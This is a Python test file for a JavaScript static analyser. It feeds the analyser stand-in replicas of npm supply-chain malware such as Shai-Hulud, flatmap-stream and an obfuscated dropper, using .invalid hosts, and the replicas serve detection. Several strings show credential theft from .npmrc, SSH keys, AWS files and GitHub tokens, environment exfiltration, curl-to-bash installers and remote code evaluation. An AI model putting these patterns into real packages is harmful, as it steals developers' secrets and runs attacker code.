"""Inert replicas of what real incidents did: hosts under `.invalid`, commands that do nothing, nothing executed."""

import base64

from customhouse.model.code import CodeFacts
from customhouse.source.javascript.reader import read_javascript


def read(source: str, path: str = "setup.js") -> CodeFacts:
    return read_javascript(path, source.encode(), "javascript")


def kinds(facts: CodeFacts, when: str = "load") -> set[str]:
    return {each.kind for each in facts.capabilities if each.when == when}


def test_axios_2026_dropper_in_plain():
    facts = read("""
const fs = require('fs'), os = require('os'), path = require('path');
const { exec } = require('child_process');
const base = 'http://c2.invalid:8000/';
function go() {
  const p = os.platform();
  let cmd = '';
  const out = path.join(os.tmpdir(), 'ld.py');
  if (p === 'darwin') {
    cmd = `curl -o ${out} -d product0 -s ${base}6202033 && true ${out} &`;
  } else if (p === 'win32') {
    cmd = 'powershell -w hidden -c "true"';
  } else {
    cmd = 'curl -o ' + out + ' -d product2 -s ' + base + ' && true &';
  }
  exec(cmd);
  fs.unlink(__filename, () => {});
  fs.unlinkSync('package.json');
  fs.renameSync('package.md', 'package.json');
}
go();
""")
    calls = {call.callee: call for call in facts.calls}
    assert calls["child_process.exec"].when == "load"
    assert "os.platform" in calls
    assert calls["fs.unlink"].when == "load"
    assert calls["fs.renameSync"].arguments == ("package.md", "package.json")
    assert {"process", "filesystem"} <= kinds(facts)
    assert "http://c2.invalid:8000/" in facts.hosts
    assert not facts.unread


def test_axios_2026_dropper_obfuscated():
    names = ["child_process", "os", "fs", "http://c2.invalid:8000/6202033", "unlink", "platform", "exec"]
    table = ",".join(f"'{base64.b64encode(name.encode()).decode()[::-1].replace('=', '_')}'" for name in names)
    facts = read(f"""
const stq=[{table}],ord='OrDeR_7077',
_trans_2=function(x,r){{let E=x.split('').reverse().join('').replaceAll('_','=');
 let S=Buffer.from(E,'base64').toString('utf8');return _trans_1(S,r)}},
_trans_1=function(x,r){{const E=r.split('').map(Number);return x.split('').map((x,r)=>{{
 const S=x.charCodeAt(0),a=E[7*r*r%10];return String.fromCharCode(S^a^333)}}).join('')}},
_entry=function(x){{const r=require(_trans_2(stq[0],ord)),E=require(_trans_2(stq[1],ord)),
 t=require(_trans_2(stq[2],ord));
 try{{const W=E[_trans_2(stq[5],ord)]();r[_trans_2(stq[6],ord)](_trans_2(stq[3],ord)+W);
 t[_trans_2(stq[4],ord)](__filename,x=>{{}})}}catch(x){{}}}};
_entry('6202033');
""")
    loads = [call for call in facts.calls if call.callee == "require"]
    assert len(loads) == 3
    assert all(call.when == "load" for call in loads)
    assert all("decoded" in call.origins for call in loads)
    assert ("dynamic-code", "require(computed)") in {(each.kind, each.detail) for each in facts.capabilities}
    assert "http://c2.invalid:8000/6202033" in facts.hosts
    assert {("reversed", "base64")} <= {each.encodings for each in facts.decoded}


def test_shai_hulud_2_setup_bun():
    facts = read("""#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');
function isBunOnPath() {
  try { execSync('command -v bun', { stdio: 'ignore' }); return true; } catch { return false; }
}
async function downloadAndSetupBun() {
  let command;
  if (process.platform === 'win32') command = 'powershell -c "irm https://bun.invalid/install.ps1|iex"';
  else command = 'curl -fsSL https://bun.invalid/install | bash';
  execSync(command, { stdio: 'ignore', env: { ...process.env } });
  return path.join(os.homedir(), '.bun', 'bin', 'bun');
}
function runExecutable(execPath, args = [], opts = {}) {
  const child = spawn(execPath, args, { stdio: 'ignore', detached: true, env: Object.assign({}, process.env, opts) });
  child.on('exit', code => process.exit(code || 0));
}
async function main() {
  const bun = isBunOnPath() ? 'bun' : await downloadAndSetupBun();
  const environmentScript = path.join(__dirname, 'bun_environment.js');
  if (fs.existsSync(environmentScript)) runExecutable(bun, [environmentScript]);
}
main().catch(() => process.exit(0));
""")
    runs = [call for call in facts.calls if call.callee.startswith("child_process.")]
    assert {call.callee for call in runs} == {"child_process.execSync", "child_process.spawn"}
    assert all(call.when == "load" for call in runs)
    assert {"https://bun.invalid/install.ps1", "https://bun.invalid/install"} <= set(facts.hosts)
    assert ("environment", "process.env") not in {(each.kind, each.detail) for each in facts.capabilities}


def test_shai_hulud_1_secrets_sent():
    facts = read("""
const https = require('https');
const { execSync } = require('child_process');
async function collect() {
  const found = JSON.parse(execSync('./trufflehog filesystem / --json').toString());
  const token = process.env.GITHUB_TOKEN || execSync('gh auth token').toString();
  const body = Buffer.from(JSON.stringify({ system: require('os').hostname(), env: process.env, token, found }))
    .toString('base64');
  const request = https.request('https://webhook.invalid/x', { method: 'POST' });
  request.write(body);
  request.end();
}
(async () => { await collect(); })();
""")
    sent = next(call for call in facts.calls if call.callee == "https.request.write")
    assert {"credentials", "host"} <= set(sent.origins)
    assert sent.when == "load"
    assert ("credentials", "process.env.GITHUB_TOKEN") in {(each.kind, each.detail) for each in facts.capabilities}
    assert ("credentials", "gh auth token") in {(each.kind, each.detail) for each in facts.capabilities}


def test_flatmap_stream():
    facts = read(
        """
!function() {
  try {
    var r = require, t = process;
    function e(r) { return Buffer.from(r, "hex").toString() }
    var n = r(e("2e2f746573742f64617461")),
        o = t[e(n[3])][e(n[4])];
    if (!o) return;
    var u = r(e(n[2]))[e(n[6])](e(n[5]), o),
        a = u.update(n[0], e(n[8]), e(n[9]));
    a += u.final(e(n[9]));
    var f = new module.constructor;
    f.paths = module.paths, f[e(n[7])](a, ""), f.exports(n[1])
  } catch (r) {}
}();
""",
        "index.min.js",
    )
    assert "./test/data" in {each.module for each in facts.imports}
    assert "./test/data" in {each.value for each in facts.decoded}
    assert ("dynamic-code", "require(computed)") in {(each.kind, each.detail) for each in facts.capabilities}
    assert all(call.when == "load" for call in facts.calls)


def test_flatmap_stream_with_its_names_in_plain():
    facts = read("""
const crypto = require('crypto');
const key = process.env.npm_package_description;
const d = crypto.createDecipher('aes256', key);
let code = d.update(require('./data')[0], 'hex', 'utf8');
code += d.final('utf8');
const m = new module.constructor();
m._compile(code, '');
""")
    compiled = next(call for call in facts.calls if call.callee == "module._compile")
    assert "decoded" in compiled.origins
    assert compiled.when == "load"
    assert "crypto.createDecipher" in {call.callee for call in facts.calls}


def test_download_write_and_run():
    facts = read("""
const https = require('https'), fs = require('fs'), cp = require('child_process');
const os = require('os'), path = require('path');
const target = path.join(os.tmpdir(), 'node-helper');
https.get('https://c2.invalid/stage2', response => {
  const file = fs.createWriteStream(target);
  response.pipe(file);
  file.on('finish', () => {
    file.close();
    fs.chmodSync(target, 0o755);
    cp.spawn(target, [], { detached: true, stdio: 'ignore' }).unref();
  });
});
""")
    run = next(call for call in facts.calls if call.callee == "child_process.spawn")
    assert "network" in run.origins
    assert run.when == "load"


def test_downloaded_code_is_evaluated():
    facts = read("""
const https = require('https');
https.get('https://c2.invalid/code', r => { let b = ''; r.on('data', c => b += c); r.on('end', () => eval(b)); });
""")
    run = next(call for call in facts.calls if call.callee == "eval")
    assert run.origins == ("network",)
    assert run.when == "load"


def test_fetched_code_is_evaluated_in_every_style():
    for source in (
        "(async () => { const r = await fetch('https://c2.invalid'); eval(await r.text()) })()",
        "fetch('https://c2.invalid').then(r => r.text()).then(t => eval(t))",
        "fetch('https://c2.invalid').then(r => r.text()).then(eval)",
        "async function g(u) { return (await fetch(u)).text() }\ng('https://c2.invalid').then(t => Function(t)())",
        "const axios = require('axios'); axios.get('https://c2.invalid').then(({ data }) => eval(data.code))",
        "require('request')('https://c2.invalid', (e, r, body) => { eval(body) })",
        "(async () => { const { d } = await (await import('axios')).default.get('https://c2.invalid'); eval(d) })()",
    ):
        facts = read(source)
        run = [call for call in facts.calls if call.callee in {"eval", "Function"}]
        assert run, source
        assert all("network" in call.origins and call.when == "load" for call in run), source


def test_credentials_are_read_and_sent():
    for source in (
        (
            "const fs=require('fs'),os=require('os');const t=fs.readFileSync(os.homedir()+'/.npmrc','utf8');"
            "const q=require('https').request({host:'c2.invalid',method:'POST'});q.write(t);q.end()"
        ),
        "import fs from 'fs'; fetch('//c2.invalid', { body: fs.readFileSync(`${process.env.HOME}/.ssh/id_rsa`) })",
        "const fs=require('fs'); fs.readFile('/root/.aws/credentials', (e, d) => { fetch('https://c2.invalid?' + d) })",
        (
            "const files=['.npmrc','.netrc'].map(f=>require('fs').readFileSync(f,'utf8'));"
            "navigator.sendBeacon('https://c2.invalid', JSON.stringify(files))"
        ),
    ):
        facts = read(source)
        sent = [
            call
            for call in facts.calls
            if "request.write" in call.callee or call.callee in {"fetch", "navigator.sendBeacon"}
        ]
        assert sent, source
        assert any("credentials" in call.origins for call in sent), source


def test_environment_is_sent():
    for source in (
        "fetch('https://c2.invalid', { method: 'POST', body: JSON.stringify(process.env) })",
        "const d = Buffer.from(JSON.stringify(process.env)).toString('hex'); require('https').get('//c2.invalid/' + d)",
        "const e = { ...process.env }; const x = new XMLHttpRequest(); x.open('POST', '//c2.invalid'); x.send(f(e))",
        "require('dns').lookup(Buffer.from(JSON.stringify(process.env)).toString('hex') + '.c2.invalid', () => {})",
        "const { exec } = require('child_process'); exec(`curl -d '${JSON.stringify(process.env)}' https://c2.invalid`)",
    ):
        facts = read(source)
        assert any("environment" in call.origins for call in facts.calls), source


def test_rand_user_agent_hidden_by_spaces():
    facts = read("module.exports = 1;" + " " * 2000 + "require('child_process').exec('true')")
    assert ("process", "child_process.exec") in {(each.kind, each.detail) for each in facts.capabilities}


def test_dependency_confusion_beacon():
    facts = read("""
const os = require("os"); const dns = require("dns");
const querystring = require("querystring"); const https = require("https");
const trackingData = JSON.stringify({
  c: __dirname, hd: os.homedir(), hn: os.hostname(), un: os.userInfo().username, dns: dns.getServers() });
var postData = querystring.stringify({ msg: trackingData });
var options = { hostname: "burp.invalid", port: 443, path: "/", method: "POST" };
var req = https.request(options, (res) => { res.on("data", (d) => { process.stdout.write(d); }); });
req.write(postData);
req.end();
""")
    sent = next(call for call in facts.calls if call.callee == "https.request.write")
    assert "host" in sent.origins
    assert "burp.invalid" in facts.hosts
